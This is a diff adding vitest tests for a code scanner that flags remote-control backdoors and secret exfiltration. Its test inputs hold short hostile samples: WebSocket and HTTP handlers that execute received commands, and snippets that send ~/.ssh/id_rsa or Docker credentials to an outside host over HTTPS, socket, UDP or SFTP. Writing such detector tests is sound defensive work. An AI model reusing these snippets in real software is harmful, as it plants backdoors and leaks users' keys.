@@ -1,0 +1,97 @@
+import { expect, test } from "vitest";
+import { found } from "../../test-support/package-of";
+
+const control = async (path: string, code: string) =>
+  (await found(path, code)).filter((one) => /remote_control/.test(one)).map((one) => one.replace(/:.*/, ""));
+
+test.each([
+  [
+    "a server of sockets",
+    "a.py",
+    "import socketserver, subprocess\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n        subprocess.getoutput(self.rfile.readline().decode())\n",
+    "block",
+  ],
+  [
+    "messages of a web socket",
+    "a.js",
+    'const WebSocket = require("ws");\nconst { exec } = require("child_process");\nconst ws = new WebSocket("wss://in.statsbox.net");\nws.on("message", (m) => exec(JSON.parse(m).body));\n',
+    "block",
+  ],
+  [
+    "a handler that is assigned",
+    "a.js",
+    'const ws = new WebSocket("wss://in.statsbox.net");\nws.onmessage = (m) => eval(m.data);\n',
+    "block",
+  ],
+  [
+    "a web server",
+    "a.js",
+    'const http = require("http");\nconst { execSync } = require("child_process");\nhttp.createServer((req, res) => res.end(execSync(new URL(req.url, "http://x").searchParams.get("c")))).listen(8081);\n',
+    "warn",
+  ],
+  [
+    "a web framework",
+    "a.py",
+    "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/run')\ndef run():\n    return subprocess.getoutput(request.args.get('c'))\n",
+    "warn",
+  ],
+  [
+    "the parameters of a route",
+    "a.py",
+    "import subprocess\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.post('/run')\ndef run(cmd: str):\n    return subprocess.getoutput(cmd)\n",
+    "warn",
+  ],
+])("finds that a program runs what comes in by %s", async (_, path, code, severity) => {
+  expect(await control(path, code)).toEqual([`${severity} remote_control`]);
+});
+
+test.each([
+  [
+    "a server that answers",
+    "a.js",
+    'const http = require("http");\nconst { execSync } = require("child_process");\nhttp.createServer((req, res) => res.end(execSync("git status") + req.url)).listen(8081);\n',
+  ],
+  [
+    "a command that names what was asked",
+    "a.js",
+    'const app = require("express")();\nconst { execFileSync } = require("child_process");\napp.get("/log", (req, res) => res.send(execFileSync("git", ["log", "-n", String(req.query.n)])));\n',
+  ],
+  [
+    "a tool of an assistant",
+    "a.py",
+    "import subprocess\nfrom mcp.server.fastmcp import FastMCP\nmcp = FastMCP('shell')\n@mcp.tool()\ndef run(cmd: str):\n    return subprocess.getoutput(cmd)\n",
+  ],
+])("leaves %s alone", async (_, path, code) => {
+  expect(await control(path, code)).toEqual([]);
+});
+
+test("gives the listeners of a program's own events what is fired", async () => {
+  const code =
+    'const { EventEmitter } = require("events");\nconst bus = new EventEmitter();\nbus.on("key", (key) => fetch("https://in.statsbox.net/" + key));\nbus.emit("key", require("fs").readFileSync(process.env.HOME + "/.ssh/id_rsa", "utf8"));\n';
+  expect(await found("a.js", code)).toContainEqual(expect.stringMatching(/^block secret_exfiltration/));
+});
+
+test.each([
+  [
+    "a stream that is led into a request",
+    'require("fs").createReadStream(process.env.HOME + "/.ssh/id_rsa").pipe(require("https").request("https://in.statsbox.net", { method: "POST" }));\n',
+    "a.js",
+  ],
+  [
+    "a connection that a library makes",
+    'import os, socket\ns = socket.create_connection(("198.98.54.12", 8443))\ns.sendall(open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read())\n',
+    "a.py",
+  ],
+  [
+    "a datagram",
+    'const sock = require("dgram").createSocket("udp4");\nsock.send(require("fs").readFileSync(process.env.HOME + "/.docker/config.json"), 53, "198.98.54.12");\n',
+    "b.js",
+  ],
+  [
+    "a file that is put by its path",
+    'import os, paramiko\nc = paramiko.SSHClient()\nc.connect("198.98.54.12", username="d")\nc.open_sftp().put(os.path.expanduser("~/.ssh/id_rsa"), "/tmp/k")\n',
+    "b.py",
+  ],
+])("finds keys that leave by %s", async (_, code, path) => {
+  expect(await found(path, code)).toContainEqual(expect.stringMatching(/^block secret_exfiltration/));
+});
